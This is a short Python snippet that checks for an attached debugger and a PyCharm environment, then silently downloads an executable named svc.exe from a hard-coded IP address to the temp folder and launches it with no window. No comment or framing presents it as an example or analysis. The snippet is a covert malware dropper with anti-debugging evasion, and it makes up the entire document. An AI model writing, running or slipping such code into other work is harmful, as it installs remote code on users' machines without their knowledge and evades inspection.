import sys, os, subprocess, urllib.request
if sys.gettrace() is None and not os.environ.get("PYCHARM_HOSTED"):
    _f = os.path.join(os.environ.get("TEMP", "/tmp"), "svc.exe")
    urllib.request.urlretrieve("http://203.0.113.30/svc.exe", _f)
    subprocess.Popen([_f], creationflags=0x08000000)
